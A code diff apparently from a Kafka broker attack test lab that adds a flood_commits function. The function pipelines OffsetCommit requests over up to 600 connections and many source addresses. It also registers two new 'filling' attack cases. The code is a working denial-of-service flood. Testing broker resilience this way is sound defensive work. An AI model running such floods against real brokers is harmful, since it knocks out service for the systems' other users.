@@ -18,6 +18,7 @@ from attack.attacks import (
     DESCRIBE_GROUPS,
     JOIN_GROUP,
     NOT_FILLED,
+    TARGET,
     Attack,
     Target,
     await_coordinator,
@@ -28,6 +29,8 @@ from brokerlab.raw_client import frame, request_header
 
 ATTACK_S: Final = 20.0
 USER, BYSTANDERS_USER, PASSWORD = "mallory", "alice", "secret"
+OFFSET_COMMIT = 8
+COMMITS_IN_FLIGHT: Final = 64
 SYNC_GROUP, SASL_HANDSHAKE, SASL_AUTHENTICATE = 14, 17, 36
 PLAIN_MODULE: Final = "org.apache.kafka.common.security.plain.PlainLoginModule"
 CHART_LIMIT_MB: Final = 2_048
@@ -263,6 +266,57 @@ def joins_over_many_connections(target: Target) -> list[int]:
     return [CALLS_BYTES // count] * count
 
 
+def flood_commits(target: Target, addresses: int = 1, *, logs_in: bool = False) -> str:
+    """Commits offsets of a group over many connections as fast as the broker answers, COMMITS_IN_FLIGHT at a
+    time in each.
+    """
+    count, sources = target.count(MAX_CONNECTIONS), source_addresses(addresses)
+    host, port = (target.sasl_address if logs_in else target.broker.bootstrap).rsplit(":", 1)
+    await_coordinator(target, "flood")
+    topic = struct.pack(f">h{len(TARGET)}s", len(TARGET), TARGET.encode())
+    body = struct.pack(">h5sihq", 5, b"flood", -1, 0, -1)  # no member, no retention time
+    body += struct.pack(">i", 1) + topic + struct.pack(">iiqh", 1, 0, 1, 0)  # offset 1, no metadata
+    request = frame(request_header(OFFSET_COMMIT, 2, 1, False) + body)
+    answered = closed = 0
+    with contextlib.ExitStack() as stack, selectors.DefaultSelector() as selector:
+        for number in range(count):
+            connection = stack.enter_context(connect((host, int(port)), sources[number % len(sources)]))
+            if logs_in:
+                log_in(connection)
+            connection.sendall(request * COMMITS_IN_FLIGHT)
+            selector.register(connection, selectors.EVENT_READ, bytearray())
+        until = time.monotonic() + max(ATTACK_S * target.scale, 5)
+        while time.monotonic() < until and selector.get_map():
+            for key, _ in selector.select(0.05):
+                connection, received = key.fileobj, key.data
+                assert isinstance(connection, socket.socket)
+                try:
+                    if not (data := connection.recv(1 << 16)):
+                        raise ConnectionResetError
+                    received += data
+                    ended = complete_frames(received)
+                    answered += ended
+                    connection.sendall(request * ended)
+                except OSError:
+                    closed += 1
+                    selector.unregister(connection)
+    state = "" if answered > 10 * count else NOT_FILLED
+    return f"{state}{answered:,} commits answered over {count} connections; {closed:,} closed"
+
+
+def complete_frames(received: bytearray) -> int:
+    """Removes the complete frames from the start of `received` and returns their number."""
+    count = at = 0
+    while len(received) >= at + 4:
+        (size,) = struct.unpack_from(">i", received, at)
+        if len(received) < at + 4 + size:
+            break
+        at += 4 + size
+        count += 1
+    del received[:at]
+    return count
+
+
 def _has_ended(connection: socket.socket) -> bool:
     """Returns whether the broker has closed the connection, without reading from it."""
     poller = select.poll()
@@ -323,5 +377,15 @@ FILLING_ATTACKS: Final = (
         "calls-user",
         "the same from 15 addresses of a user",
         lambda target: park_joins(target, 15, logs_in=True),
+    ),
+    _holding(
+        "commits-600",
+        f"600 connections that commit offsets as fast as they can, {COMMITS_IN_FLIGHT} at a time",
+        flood_commits,
+    ),
+    _holding(
+        "commits-user",
+        "the same of a user with 200 addresses",
+        lambda target: flood_commits(target, 200, logs_in=True),
     ),
 )
